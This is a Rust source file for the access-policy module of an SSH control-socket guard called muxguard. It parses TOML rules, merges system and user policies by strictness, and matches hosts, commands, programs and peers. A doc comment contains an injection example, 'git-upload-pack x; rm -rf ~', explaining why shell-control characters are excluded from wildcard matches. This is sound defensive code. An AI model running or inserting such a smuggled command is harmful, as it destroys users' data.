//! The access policy: which requests on the control socket are allowed,
//! asked about, refused, or sent back to authenticate on their own.
//!
//! This module is pure. It parses the TOML policy files (the user's
//! `$XDG_CONFIG_HOME/muxguard/policy.toml` and the administrator's
//! `/etc/muxguard/policy.toml`), matches a [`Request`] against their rules and
//! merges the two answers. It does not look at processes, sockets or the
//! desktop: the caller gathers the facts (who is asking, for what) and turns
//! the resulting [`Action`] into behaviour, using the merged [`Settings`] for
//! prompts. It does no I/O: `policy_file` reads a file and hands its text
//! to [`Policy::parse`].
//!
//! The rules, in short:
//!
//! - In each file the first rule that matches decides; if none does, the
//!   file's `[defaults] action`, else [`BUILTIN_ACTION`].
//! - The final action is the stricter of the system file's and the user's
//!   (deny > ask > direct > allow): the system file is a ceiling.
//! - Kind `proxy` is denied unless a matching rule lists `"proxy"` in `kinds`.
//! - An unknown requesting program never satisfies a rule's `programs` in a
//!   way that loosens the answer (see [`DecidedBy::ProgramUnknown`]).
//! - Every mistake in a file is reported with file, line and column of the
//!   offending text, so that `policy check` and start-up refusals point at
//!   the exact place to fix.

#![forbid(unsafe_code)]

use std::fmt;
use std::ops::Range;
use std::path::{Path, PathBuf};
use std::str::FromStr;
use std::time::Duration;

use serde::Deserialize;
use toml::Spanned;

use crate::glob;

// ---------------------------------------------------------------------------
// Built-in values
// ---------------------------------------------------------------------------

/// The action when no rule matches and the file sets no `[defaults] action`,
/// and the action for every request when there is no policy file at all.
/// Proxy requests are denied regardless (see [`RequestKind::Proxy`]).
pub const BUILTIN_ACTION: Action = Action::Ask;
/// How long "Allow for a while" lasts when no file sets `remember`.
pub const BUILTIN_REMEMBER: Duration = Duration::from_secs(10 * 60);
/// How long a prompt waits for an answer when no file sets `prompt_timeout`.
pub const BUILTIN_PROMPT_TIMEOUT: Duration = Duration::from_secs(30);
/// What `ask` becomes while the desktop is locked, when no file says.
pub const BUILTIN_WHEN_LOCKED: Fallback = Fallback::Deny;
/// What `ask` becomes when nobody can be asked, when at least one policy file
/// exists but none sets `no_prompter`. Writing a policy is a sign the person
/// wants control, so an unanswerable question is refused.
pub const BUILTIN_NO_PROMPTER: Fallback = Fallback::Deny;
/// What `ask` becomes when nobody can be asked and there is no policy file at
/// all. Without any file only the master's own uid is admitted to the socket
/// (see [`PolicySet::admits_peer`]), so this lets a person who merely swapped
/// OpenSSH's master for muxguard keep working on a headless box, as they did
/// before, while desktops still get a prompt.
pub const BUILTIN_NO_PROMPTER_WITHOUT_POLICY: Fallback = Fallback::Allow;
/// What to do when the audit log cannot be written, when no file says.
/// Unrecorded access is what this program exists to prevent.
pub const BUILTIN_AUDIT_FAILURE: AuditFailure = AuditFailure::Deny;
/// How long further asks from a requester are denied without a prompt after
/// a denied or unanswered one, when no file sets `cooldown`.
pub const BUILTIN_COOLDOWN: Duration = Duration::from_secs(30);

// ---------------------------------------------------------------------------
// Names: actions, fallbacks, kinds
// ---------------------------------------------------------------------------

/// A word in a policy file or on the command line that is not one of the
/// accepted names. The message lists what is accepted.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{reason}")]
pub struct NameError {
    reason: String,
}

fn unknown_name(what: &str, given: &str, accepted: &[&str]) -> NameError {
    NameError {
        reason: format!(
            "unknown {what} \"{given}\"; use one of: {}",
            accepted.join(", ")
        ),
    }
}

/// What happens to a request.
///
/// The variants are declared from loosest to strictest, so `Ord` is the
/// strictness order used to merge files: deny > ask > direct > allow.
/// `direct` is stricter than `allow` because it refuses to share the
/// authenticated connection, but looser than `ask` and `deny` because the
/// client may still reach the host by authenticating on its own.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Action {
    /// Run the request over the shared connection.
    Allow,
    /// Decline to share; the stock client then authenticates by itself.
    Direct,
    /// Ask the person at the desktop.
    Ask,
    /// Refuse, telling the client which rule said so.
    Deny,
}

impl Action {
    /// Every action, loosest first.
    pub const ALL: [Action; 4] = [Action::Allow, Action::Direct, Action::Ask, Action::Deny];

    /// The name used in policy files.
    pub fn name(self) -> &'static str {
        match self {
            Action::Allow => "allow",
            Action::Direct => "direct",
            Action::Ask => "ask",
            Action::Deny => "deny",
        }
    }

    /// The stricter of two actions.
    #[cfg(any(test, feature = "fuzzing"))]
    pub fn stricter(self, other: Action) -> Action {
        self.max(other)
    }
}

impl fmt::Display for Action {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for Action {
    type Err = NameError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Action::ALL
            .into_iter()
            .find(|a| a.name() == s)
            .ok_or_else(|| unknown_name("action", s, &Action::ALL.map(Action::name)))
    }
}

/// What an `ask` turns into when it cannot be asked (`when_locked`,
/// `no_prompter`). It has no `Ask` variant: asking is exactly what is not
/// possible at that point. Ordered loosest first, like [`Action`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Fallback {
    /// Run the request as if it had been allowed.
    Allow,
    /// Decline to share; the client authenticates on its own.
    Direct,
    /// Refuse the request.
    Deny,
}

impl Fallback {
    /// Every fallback, loosest first.
    pub const ALL: [Fallback; 3] = [Fallback::Allow, Fallback::Direct, Fallback::Deny];

    /// The name used in policy files.
    pub fn name(self) -> &'static str {
        self.action().name()
    }

    /// The action this fallback stands for.
    pub fn action(self) -> Action {
        match self {
            Fallback::Allow => Action::Allow,
            Fallback::Direct => Action::Direct,
            Fallback::Deny => Action::Deny,
        }
    }
}

impl fmt::Display for Fallback {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for Fallback {
    type Err = NameError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        if s == "ask" {
            return Err(NameError {
                reason: "\"ask\" cannot be used here: this setting says what an `ask` becomes \
                         when nobody can answer; use \"deny\", \"direct\" or \"allow\""
                    .to_owned(),
            });
        }
        Fallback::ALL
            .into_iter()
            .find(|a| a.name() == s)
            .ok_or_else(|| unknown_name("value", s, &Fallback::ALL.map(Fallback::name)))
    }
}

/// What to do with a request when its audit record cannot be written.
/// Ordered loosest first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum AuditFailure {
    /// Carry on without a record.
    Allow,
    /// Refuse the request.
    Deny,
}

impl AuditFailure {
    /// Both values, loosest first.
    pub const ALL: [AuditFailure; 2] = [AuditFailure::Allow, AuditFailure::Deny];

    /// The name used in policy files.
    pub fn name(self) -> &'static str {
        match self {
            AuditFailure::Allow => "allow",
            AuditFailure::Deny => "deny",
        }
    }
}

impl fmt::Display for AuditFailure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for AuditFailure {
    type Err = NameError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        AuditFailure::ALL
            .into_iter()
            .find(|a| a.name() == s)
            .ok_or_else(|| unknown_name("value", s, &AuditFailure::ALL.map(AuditFailure::name)))
    }
}

/// The kind of a request on the control socket; the names are those of a
/// rule's `kinds`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum RequestKind {
    /// An interactive login shell (no command).
    Shell,
    /// A remote command.
    Exec,
    /// A subsystem such as sftp.
    Subsystem,
    /// `-L`: a local port forwarded to the remote side.
    ForwardLocal,
    /// `-R`: a remote port forwarded back here.
    ForwardRemote,
    /// `-D`: a SOCKS proxy.
    ForwardDynamic,
    /// `-W`: stdio forwarded to a host and port.
    StdioForward,
    /// `-O proxy`: the client speaks SSH through the master. Denied unless a
    /// rule lists this kind by name.
    Proxy,
    /// `-O exit`, `-O stop`, `-O cancel` and the like.
    Control,
}

impl RequestKind {
    /// Every kind, in the order the documentation lists them.
    pub const ALL: [RequestKind; 9] = [
        RequestKind::Shell,
        RequestKind::Exec,
        RequestKind::Subsystem,
        RequestKind::ForwardLocal,
        RequestKind::ForwardRemote,
        RequestKind::ForwardDynamic,
        RequestKind::StdioForward,
        RequestKind::Proxy,
        RequestKind::Control,
    ];

    /// The name used in policy files.
    pub fn name(self) -> &'static str {
        match self {
            RequestKind::Shell => "shell",
            RequestKind::Exec => "exec",
            RequestKind::Subsystem => "subsystem",
            RequestKind::ForwardLocal => "forward-local",
            RequestKind::ForwardRemote => "forward-remote",
            RequestKind::ForwardDynamic => "forward-dynamic",
            RequestKind::StdioForward => "stdio-forward",
            RequestKind::Proxy => "proxy",
            RequestKind::Control => "control",
        }
    }

    fn bit(self) -> u16 {
        1 << (self as u16)
    }
}

impl fmt::Display for RequestKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for RequestKind {
    type Err = NameError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        RequestKind::ALL
            .into_iter()
            .find(|k| k.name() == s)
            .ok_or_else(|| unknown_name("kind", s, &RequestKind::ALL.map(RequestKind::name)))
    }
}

/// A set of request kinds, as listed in a rule's `kinds`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct KindSet(u16);

impl KindSet {
    fn contains(self, kind: RequestKind) -> bool {
        self.0 & kind.bit() != 0
    }
}

/// Local TCP ports, as inclusive ranges (a rule's `ports`, or what the
/// sandbox lets the master bind or connect to).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct PortSet {
    ranges: Vec<(u16, u16)>,
}

impl PortSet {
    pub fn contains(&self, port: u16) -> bool {
        self.ranges.iter().any(|&(a, b)| (a..=b).contains(&port))
    }

    /// Every port in the set, in order, each once.
    pub fn ports(&self) -> impl Iterator<Item = u16> + '_ {
        (0..=u16::MAX).filter(|p| self.contains(*p))
    }

    pub fn insert(&mut self, port: u16) {
        self.ranges.push((port, port));
    }

    fn union(&mut self, other: &PortSet) {
        self.ranges.extend_from_slice(&other.ranges);
    }

    fn intersection(&self, other: &PortSet) -> PortSet {
        let mut ranges = Vec::new();
        for &(a, b) in &self.ranges {
            for &(c, d) in &other.ranges {
                let (lo, hi) = (a.max(c), b.min(d));
                if lo <= hi {
                    ranges.push((lo, hi));
                }
            }
        }
        PortSet { ranges }
    }
}

impl fmt::Display for PortSet {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.ranges.is_empty() {
            return f.write_str("none");
        }
        let mut ranges = self.ranges.clone();
        ranges.sort_unstable();
        for (i, (a, b)) in ranges.iter().enumerate() {
            if i > 0 {
                f.write_str(",")?;
            }
            if a == b {
                write!(f, "{a}")?;
            } else {
                write!(f, "{a}-{b}")?;
            }
        }
        Ok(())
    }
}

fn parse_port(text: &str) -> Result<u16, String> {
    match text.parse::<u32>() {
        Ok(n) if n <= u32::from(u16::MAX) => Ok(n as u16),
        _ => Err(format!(
            "\"{text}\" is not a port; write a number from 0 to 65535 or a range like \"8000-8099\""
        )),
    }
}

/// Which local TCP ports the policy may ever let the master use for one
/// destination: what the sandbox leaves open (see [`PolicySet::forward_ports`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Ports {
    /// Some allowed (or asked) request may use any port.
    Any,
    Only(PortSet),
}

impl Ports {
    fn add(&mut self, more: &Ports) {
        match (self, more) {
            (Ports::Any, _) => {}
            (this, Ports::Any) => *this = Ports::Any,
            (Ports::Only(a), Ports::Only(b)) => a.union(b),
        }
    }

    fn meet(self, other: Ports) -> Ports {
        match (self, other) {
            (Ports::Any, x) | (x, Ports::Any) => x,
            (Ports::Only(a), Ports::Only(b)) => Ports::Only(a.intersection(&b)),
        }
    }
}

impl fmt::Display for Ports {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Ports::Any => f.write_str("any"),
            Ports::Only(set) => set.fmt(f),
        }
    }
}

/// The ports the master binds (`-L`, `-D` listeners) and connects to (`-R`
/// targets) for forwards the policy can allow.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ForwardPorts {
    pub bind: Ports,
    pub connect: Ports,
}

/// The destination a master serves, in the policy's terms.
#[derive(Debug, Clone, Copy)]
pub struct Destination<'a> {
    pub alias: &'a str,
    pub hostname: &'a str,
    pub user: &'a str,
}

// ---------------------------------------------------------------------------
// Peers
// ---------------------------------------------------------------------------

/// An entry of a rule's `peers`: a local account, other than the master's
/// own, that may use the master. Names are kept as names; resolving them to
/// ids is the caller's job (the caller knows the peer's name and groups).
///
/// Written in the file as `"1001"` (uid), `"alice"` (user name),
/// `"group:devs"` (group name) or `"group:1001"` (gid).
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum PeerSpec {
    /// `"1001"`
    Uid(u32),
    /// `"alice"`
    User(String),
    /// `"group:devs"`
    Group(String),
    /// `"group:1001"`
    Gid(u32),
}

impl PeerSpec {
    /// Whether `peer` is the account or in the group this entry names.
    /// Root (uid 0) is matched only by `Uid(0)` or by its user name, never
    /// through a group: root is in many groups, and admitting it must be a
    /// deliberate line in the file.
    pub fn matches(&self, peer: &PeerAccount<'_>) -> bool {
        match self {
            PeerSpec::Uid(uid) => peer.uid == *uid,
            PeerSpec::User(name) => peer.user == Some(name.as_str()),
            PeerSpec::Gid(gid) => peer.uid != 0 && peer.gids.contains(gid),
            PeerSpec::Group(name) => peer.uid != 0 && peer.groups.iter().any(|g| g == name),
        }
    }
}

impl fmt::Display for PeerSpec {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PeerSpec::Uid(uid) => write!(f, "{uid}"),
            PeerSpec::User(name) => f.write_str(name),
            PeerSpec::Group(name) => write!(f, "group:{name}"),
            PeerSpec::Gid(gid) => write!(f, "group:{gid}"),
        }
    }
}

impl FromStr for PeerSpec {
    type Err = NameError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let (is_group, rest) = match s.strip_prefix("group:") {
            Some(rest) => (true, rest),
            None => (false, s),
        };
        if !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_digit()) {
            let id: u32 = rest.parse().map_err(|_| NameError {
                reason: format!("peer \"{s}\": {rest} is too large for a uid or gid"),
            })?;
            return Ok(if is_group {
                PeerSpec::Gid(id)
            } else {
                PeerSpec::Uid(id)
            });
        }
        // Account and group names never contain these; rejecting them
        // catches typos such as "group devs" or "usr:alice" early instead of
        // silently matching nobody.
        let plausible = !rest.is_empty()
            && !rest.starts_with('-')
            && !rest
                .chars()
                .any(|c| c.is_whitespace() || c.is_control() || matches!(c, ':' | '/' | ','));
        if !plausible {
            return Err(NameError {
                reason: format!(
                    "peer \"{s}\" is not a uid, user name, group:NAME or group:GID \
                     (for example \"1001\", \"alice\", \"group:devs\")"
                ),
            });
        }
        Ok(if is_group {
            PeerSpec::Group(rest.to_owned())
        } else {
            PeerSpec::User(rest.to_owned())
        })
    }
}

/// The local account a request comes from, as the caller found it from the
/// socket's peer credentials.
#[derive(Debug, Clone, Copy)]
pub struct PeerAccount<'a> {
    pub uid: u32,
    /// The uid's user name, if it has one.
    pub user: Option<&'a str>,
    /// Primary and supplementary group ids.
    pub gids: &'a [u32],
    /// Names of those groups (those that have one).
    pub groups: &'a [String],
}

// ---------------------------------------------------------------------------
// Patterns
// ---------------------------------------------------------------------------

/// How a list of patterns is written and matched.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Syntax {
    /// Host names: ssh's `*` and `?`, case-insensitive as DNS is.
    Host,
    /// Remote user names: ssh's `*` and `?`, case-sensitive.
    User,
    /// Executable paths: `*` and `?` stay within one path component and
    /// `**` crosses `/`, so "/usr/bin/*" means the programs in /usr/bin and
    /// not also everything in its subdirectories.
    Path,
    /// Remote commands and subsystem names: `*` matches any arguments,
    /// spaces and slashes included, but neither `*` nor `?` matches one of
    /// [`SHELL_CONTROL`]. The remote shell runs the command line, so
    /// "git-upload-pack *" must not also mean "git-upload-pack x; rm -rf ~".
    /// A pattern may still name such a character literally.
    Command,
}

/// What a remote shell treats as more than an argument: command separators,
/// pipes, background jobs, substitutions, redirections, subshells.
pub const SHELL_CONTROL: &[char] = &[';', '&', '|', '$', '`', '<', '>', '(', ')', '\n', '\r'];

impl Syntax {
    fn rules(self) -> glob::Rules<char> {
        let plain = glob::Rules::PLAIN;
        match self {
            Syntax::Host => glob::Rules {
                ignore_ascii_case: true,
                ..plain
            },
            Syntax::User => plain,
            Syntax::Path => glob::Rules {
                separator: Some('/'),
                ..plain
            },
            Syntax::Command => glob::Rules {
                wildcards_skip: SHELL_CONTROL,
                ..plain
            },
        }
    }
}

/// One pattern of a rule's list, compiled by the rules of its syntax.
#[derive(Debug, Clone)]
struct Glob(glob::Glob<char>);

impl Glob {
    fn compile(pattern: &str, syntax: Syntax) -> Glob {
        let units: Vec<char> = pattern.chars().collect();
        Glob(glob::Glob::new(&units, syntax.rules()))
    }

    /// Whether the whole of `text` matches.
    fn matches(&self, text: &str) -> bool {
        let units: Vec<char> = text.chars().collect();
        self.0.matches(&units)
    }
}

/// A rule's list of patterns. It matches when some plain pattern matches and
/// no `!` pattern does, as in ssh_config. Parsing guarantees at least one
/// plain pattern, so a list always can match something.
#[derive(Debug, Clone)]
struct PatternList {
    include: Vec<Glob>,
    exclude: Vec<Glob>,
}

impl PatternList {
    /// Matches if any of `names` matches a plain pattern, unless any of them
    /// matches a `!` pattern: for hosts, an exclusion of either the alias or
    /// the resolved name must win, or `!secret` could be bypassed by typing
    /// the other name.
    fn matches(&self, names: &[&str]) -> bool {
        let any = |globs: &[Glob]| globs.iter().any(|g| names.iter().any(|n| g.matches(n)));
        !any(&self.exclude) && any(&self.include)
    }
}

// ---------------------------------------------------------------------------
// Errors
// ---------------------------------------------------------------------------

/// A policy file that cannot be used, with the place to fix it. Line and
/// column are 1-based; the column counts characters, not bytes.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{}:{line}:{column}: {reason}", file.display())]
pub struct PolicyError {
    pub file: PathBuf,
    pub line: usize,
    pub column: usize,
    pub reason: String,
}

// ---------------------------------------------------------------------------
// The file model
// ---------------------------------------------------------------------------

/// A file's `[defaults]`. `None` means the file does not say; the merged
/// value comes from [`PolicySet::settings`].
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Defaults {
    pub action: Option<Action>,
    pub remember: Option<Duration>,
    pub prompt_timeout: Option<Duration>,
    pub when_locked: Option<Fallback>,
    pub no_prompter: Option<Fallback>,
    pub audit_failure: Option<AuditFailure>,
    pub cooldown: Option<Duration>,
    /// Where audit records go; meant for the system file.
    pub audit_log: Option<PathBuf>,
}

/// One `[[rule]]`. Every condition it leaves out matches anything.
#[derive(Debug, Clone)]
pub struct Rule {
    name: String,
    line: usize,
    hosts: Option<PatternList>,
    users: Option<PatternList>,
    programs: Option<PatternList>,
    commands: Option<PatternList>,
    kinds: Option<KindSet>,
    peers: Option<Vec<PeerSpec>>,
    ports: Option<PortSet>,
    action: Action,
}

/// How a rule relates to a request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Match {
    Yes,
    No,
    /// Everything matches except that the rule lists `programs` and the
    /// requesting program is unknown.
    ProgramUnknown,
}

impl Rule {
    /// The rule's `name`, unique within its file.
    #[cfg(any(test, feature = "fuzzing"))]
    pub fn name(&self) -> &str {
        &self.name
    }

    /// The line of the rule's `[[rule]]` header.
    #[cfg(any(test, feature = "fuzzing"))]
    pub fn line(&self) -> usize {
        self.line
    }

    /// The rule's `action`.
    #[cfg(any(test, feature = "fuzzing"))]
    pub fn action(&self) -> Action {
        self.action
    }

    /// The rule's `peers`, if it lists any.
    #[cfg(feature = "fuzzing")]
    pub fn peers(&self) -> Option<&[PeerSpec]> {
        self.peers.as_deref()
    }

    fn lists_kind(&self, kind: RequestKind) -> bool {
        self.kinds.is_some_and(|k| k.contains(kind))
    }

    fn matches(&self, req: &Request<'_>) -> Match {
        let host = self
            .hosts
            .as_ref()
            .is_none_or(|p| p.matches(&[req.host_alias, req.hostname]));
        let user = self
            .users
            .as_ref()
            .is_none_or(|p| p.matches(&[req.remote_user]));
        let kind = self.kinds.is_none_or(|k| k.contains(req.kind));
        // No command (a shell, a forward without a target) cannot satisfy a
        // `commands` list: there is nothing the list could be about.
        let command = match (&self.commands, req.command) {
            (None, _) => true,
            (Some(p), Some(c)) => p.matches(&[c]),
            (Some(_), None) => false,
        };
        let peer = self
            .peers
            .as_ref()
            .is_none_or(|specs| specs.iter().any(|s| s.matches(&req.peer)));
        // Like `commands`: a request without a local TCP port (a session,
        // a Unix-socket forward) cannot satisfy a `ports` list.
        let port = match (&self.ports, req.local_port) {
            (None, _) => true,
            (Some(set), Some(p)) => set.contains(p),
            (Some(_), None) => false,
        };
        if !(host && user && kind && command && peer && port) {
            return Match::No;
        }
        match (&self.programs, req.program) {
            (None, _) => Match::Yes,
            (Some(p), Some(path)) => {
                // Lossy: a non-UTF-8 byte becomes U+FFFD, which `*` and `?`
                // match like any other character and no literal in a (UTF-8)
                // pattern equals, so such paths are neither hidden from
                // wildcard rules nor mistaken for a named program.
                if p.matches(&[&path.to_string_lossy()]) {
                    Match::Yes
                } else {
                    Match::No
                }
            }
            (Some(_), None) => Match::ProgramUnknown,
        }
    }
}

/// One parsed policy file.
#[derive(Debug, Clone)]
pub struct Policy {
    file: PathBuf,
    defaults: Defaults,
    rules: Vec<Rule>,
}

/// What a request is, as far as the policy is concerned.
#[derive(Debug, Clone, Copy)]
pub struct Request<'a> {
    /// The destination as the user typed it (`ssh build-1`).
    pub host_alias: &'a str,
    /// The host name it resolved to through ssh_config (`HostName`).
    pub hostname: &'a str,
    pub remote_user: &'a str,
    /// The requesting program's executable; `None` when it could not be
    /// determined (the process went away, /proc was unreadable).
    pub program: Option<&'a Path>,
    pub kind: RequestKind,
    /// The remote command, the subsystem name, or the forward target;
    /// `None` for a shell or when there is nothing to name.
    pub command: Option<&'a str>,
    /// For a forward, the local TCP port the master itself uses: the port
    /// it listens on for `-L`/`-D`, the port it connects to for `-R`.
    /// `None` for everything else, and for Unix-socket forwards.
    pub local_port: Option<u16>,
    /// Who is connected to the socket. Rules that list `peers` apply only
    /// to requests from those peers.
    pub peer: PeerAccount<'a>,
}

/// What decided a file's answer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DecidedBy {
    /// The first rule that matched.
    Rule {
        name: String,
        file: PathBuf,
        line: usize,
    },
    /// No rule matched: the file's `[defaults] action`, or the built-in
    /// default when `file` is `None` (no policy file) or the file sets none.
    Default { file: Option<PathBuf> },
    /// The request is a proxy request, and `matched` (a rule without
    /// `"proxy"` in its `kinds`, or a default) would have let it through in
    /// some form. Proxy hands the whole connection to the client, so only a
    /// rule that names the kind may allow it; the answer is deny.
    ProxyNotListed { matched: Box<DecidedBy> },
    /// The requesting program is unknown and this rule, which lists
    /// `programs`, is stricter than what applies otherwise. The program
    /// might be one of those listed, so the stricter answer is taken; an
    /// unknown program can never earn the answer a rule grants to a named
    /// one.
    ProgramUnknown {
        name: String,
        file: PathBuf,
        line: usize,
    },
}

impl fmt::Display for DecidedBy {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DecidedBy::Rule { name, file, line } => {
                write!(f, "rule \"{name}\" ({}:{line})", file.display())
            }
            DecidedBy::Default { file: Some(file) } => {
                write!(f, "the default action of {}", file.display())
            }
            DecidedBy::Default { file: None } => f.write_str("the built-in default"),
            DecidedBy::ProxyNotListed { matched } => write!(
                f,
                "{matched}, but proxy is allowed only by a rule that lists kind \"proxy\""
            ),
            DecidedBy::ProgramUnknown { name, file, line } => write!(
                f,
                "rule \"{name}\" ({}:{line}), because the requesting program is unknown \
                 and might be one the rule lists",
                file.display()
            ),
        }
    }
}

/// One file's answer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Verdict {
    pub action: Action,
    pub decided_by: DecidedBy,
}

impl Verdict {
    /// Applies the proxy restriction to what a rule or default said.
    fn guarded(
        action: Action,
        decided_by: DecidedBy,
        kind: RequestKind,
        names_proxy: bool,
    ) -> Self {
        if kind == RequestKind::Proxy && !names_proxy && action != Action::Deny {
            Verdict {
                action: Action::Deny,
                decided_by: DecidedBy::ProxyNotListed {
                    matched: Box::new(decided_by),
                },
            }
        } else {
            Verdict { action, decided_by }
        }
    }
}

impl Policy {
    /// Parses the text of a policy file. `file` is only used in errors and
    /// verdicts.
    pub fn parse(text: &str, file: impl Into<PathBuf>) -> Result<Policy, PolicyError> {
        Parser {
            text,
            file: file.into(),
        }
        .policy()
    }

    /// The file this policy was read from.
    #[cfg(test)]
    pub fn file(&self) -> &Path {
        &self.file
    }

    /// The file's `[defaults]`.
    #[cfg(any(test, feature = "fuzzing"))]
    pub fn defaults(&self) -> &Defaults {
        &self.defaults
    }

    /// The rules, in file order.
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// Which local ports a request of forward `kind` for this destination
    /// could be allowed (or asked) on in this file, over-approximated: the
    /// rules are walked in order, every allow or ask rule that may apply adds
    /// its `ports` (or every port), and a deny or direct rule that applies to
    /// every such request ends the walk, as nothing after it can match.
    fn forward_ports(&self, destination: &Destination<'_>, kind: RequestKind) -> Ports {
        let mut ports = Ports::Only(PortSet::default());
        for rule in &self.rules {
            let applies = rule.kinds.is_none_or(|k| k.contains(kind))
                && rule
                    .hosts
                    .as_ref()
                    .is_none_or(|p| p.matches(&[destination.alias, destination.hostname]))
                && rule
                    .users
                    .as_ref()
                    .is_none_or(|p| p.matches(&[destination.user]));
            if !applies {
                continue;
            }
            match rule.action {
                Action::Allow | Action::Ask => {
                    ports.add(&rule.ports.clone().map_or(Ports::Any, Ports::Only));
                }
                Action::Deny | Action::Direct => {
                    let unconditional = rule.programs.is_none()
                        && rule.commands.is_none()
                        && rule.peers.is_none()
                        && rule.ports.is_none();
                    if unconditional {
                        return ports;
                    }
                }
            }
        }
        if matches!(
            self.defaults.action.unwrap_or(BUILTIN_ACTION),
            Action::Allow | Action::Ask
        ) {
            ports.add(&Ports::Any);
        }
        ports
    }

    /// This file's answer: the first matching rule, else the defaults.
    ///
    /// When the program is unknown, a rule that lists `programs` might or
    /// might not apply. Both possibilities are followed and the stricter
    /// answer kept: such a rule can only make the answer stricter (a "deny
    /// curl" rule is not skipped), never looser (an "allow git" rule is not
    /// granted). Walking the rules once suffices: each such rule is a floor
    /// under whatever the rest of the walk decides.
    pub fn evaluate(&self, req: &Request<'_>) -> Verdict {
        let mut floor: Option<Verdict> = None;
        let mut decided = None;
        for rule in &self.rules {
            let names_proxy = rule.lists_kind(RequestKind::Proxy);
            match rule.matches(req) {
                Match::No => {}
                Match::Yes => {
                    let by = DecidedBy::Rule {
                        name: rule.name.clone(),
                        file: self.file.clone(),
                        line: rule.line,
                    };
                    decided = Some(Verdict::guarded(rule.action, by, req.kind, names_proxy));
                    break;
                }
                Match::ProgramUnknown => {
                    let by = DecidedBy::ProgramUnknown {
                        name: rule.name.clone(),
                        file: self.file.clone(),
                        line: rule.line,
                    };
                    let candidate = Verdict::guarded(rule.action, by, req.kind, names_proxy);
                    if floor.as_ref().is_none_or(|f| candidate.action > f.action) {
                        floor = Some(candidate);
                    }
                }
            }
        }
        let decided = decided.unwrap_or_else(|| {
            let by = DecidedBy::Default {
                file: Some(self.file.clone()),
            };
            let action = self.defaults.action.unwrap_or(BUILTIN_ACTION);
            Verdict::guarded(action, by, req.kind, false)
        });
        // On a tie the rule that really matched is the better explanation.
        match floor {
            Some(f) if f.action > decided.action => f,
            _ => decided,
        }
    }

    fn lists_peers(&self) -> bool {
        self.rules.iter().any(|r| r.peers.is_some())
    }

    fn lists_peer(&self, peer: &PeerAccount<'_>) -> bool {
        self.rules
            .iter()
            .filter_map(|r| r.peers.as_ref())
            .flatten()
            .any(|spec| spec.matches(peer))
    }
}

// ---------------------------------------------------------------------------
// Both files together
// ---------------------------------------------------------------------------

/// The prompt and audit settings in force, after merging both files.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Settings {
    pub remember: Duration,
    pub prompt_timeout: Duration,
    pub when_locked: Fallback,
    pub no_prompter: Fallback,
    pub audit_failure: AuditFailure,
    pub cooldown: Duration,
    /// The audit log location a file asked for; `None` means the caller's
    /// default (`$XDG_STATE_HOME/muxguard/audit.jsonl`).
    pub audit_log: Option<PathBuf>,
}

/// The final answer for a request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decision {
    /// The stricter of the two files' actions (or the built-in default).
    pub action: Action,
    /// The system file's answer, if there is a system file.
    pub system: Option<Verdict>,
    /// The user file's answer, if there is a user file.
    pub user: Option<Verdict>,
    /// What produced `action`: the stricter verdict (the system's on a tie,
    /// as the one the user cannot change), or the built-in default.
    pub decided_by: DecidedBy,
}

impl Decision {
    /// A one-line reason for the client and the audit log, e.g.
    /// `deny: rule "no forwards" (/etc/muxguard/policy.toml:12)`.
    pub fn reason(&self) -> String {
        format!("{}: {}", self.action, self.decided_by)
    }
}

/// The system policy and the user policy, either of which may be absent.
#[derive(Debug, Clone, Default)]
pub struct PolicySet {
    pub system: Option<Policy>,
    pub user: Option<Policy>,
}

/// Combines an optional value from each file: the files that say something
/// are merged with `stricter`; if neither does, `builtin`.
fn merge<T>(system: Option<T>, user: Option<T>, stricter: fn(T, T) -> T, builtin: T) -> T {
    match (system, user) {
        (Some(s), Some(u)) => stricter(s, u),
        (Some(v), None) | (None, Some(v)) => v,
        (None, None) => builtin,
    }
}

impl PolicySet {
    fn files(&self) -> impl Iterator<Item = &Policy> {
        self.system.iter().chain(self.user.iter())
    }

    /// Whether some rule, in either file, names `peers`: only then can
    /// another uid ever be admitted, so only then does the control socket
    /// need to be reachable by others.
    pub fn admits_any_peer(&self) -> bool {
        self.files().any(Policy::lists_peers)
    }

    /// The settings in force when there is no policy file at all.
    ///
    /// They differ from an empty policy file in one respect: `no_prompter`
